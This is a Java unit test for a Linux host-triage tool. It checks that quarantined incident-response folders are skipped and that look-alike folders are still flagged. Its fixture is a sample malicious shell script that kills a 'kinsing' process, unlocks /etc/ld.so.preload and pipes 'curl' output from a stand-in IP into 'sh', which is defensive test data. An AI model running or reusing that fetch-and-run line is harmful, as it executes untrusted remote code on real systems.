package davy.agent.triage;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import davy.agent.check.Options;
import davy.linux.LinuxHost;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.Instant;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// What a response put aside is passed over, and told; not what only looks so.
final class ResponseTriageTest {
    private static final String SCRIPT =
            """
            #!/bin/sh
            pkill -9 kinsing
            chattr -i /etc/ld.so.preload
            curl -s http://203.0.113.7/x | sh
            """;

    @TempDir private Path root;

    @BeforeEach
    void makeHost() throws IOException {
        assumeTrue("root".equals(System.getProperty("user.name")), "the folder must be root's");
        Files.createDirectories(root.resolve("etc"));
        Files.writeString(root.resolve("etc/hostname"), "web\n");
    }

    private Path response(String path) throws IOException {
        Path response = Files.createDirectories(root.resolve(path));
        Path kept = Files.createDirectories(response.resolve("kept"));
        Path script = Files.writeString(kept.resolve("000001-000"), SCRIPT);
        Files.setPosixFilePermissions(script, PosixFilePermissions.fromString("rwxr-xr-x"));
        Files.setPosixFilePermissions(response, PosixFilePermissions.fromString("rwx------"));
        Files.writeString(response.resolve("journal.jsonl"), "");
        return response;
    }

    private Report triage() throws IOException {
        try (var host = LinuxHost.image(root.toString())) {
            var options = Options.standard();
            return new Triage(host, "/", Instant.now(), options, Progress.SILENT).run();
        }
    }

    @ParameterizedTest
    @ValueSource(strings = {"var/lib/davy/respond", "srv/other/state"})
    void passesOverWhatWasPutAside(String state) throws IOException {
        response(state + "/r-20261122-034624-ab12");
        var report = triage();
        assertThat(report.findings()).isEmpty();
        assertThat(report.notDone())
                .extracting(unseen -> unseen.what())
                .contains("/" + state + "/r-20261122-034624-ab12/kept");
    }

    @Test
    void looksAtWhatOnlyLooksSo() throws IOException {
        Path journal = response("srv/r-20261122-034624-ab12").resolve("journal.jsonl");
        Files.delete(journal);
        assertThat(triage().findings()).isNotEmpty();
        Files.writeString(journal, "");
        assertThat(triage().findings()).isEmpty();
        Files.setPosixFilePermissions(
                root.resolve("srv/r-20261122-034624-ab12"),
                PosixFilePermissions.fromString("rwxr-xr-x"));
        assertThat(triage().findings()).isNotEmpty();
    }
}
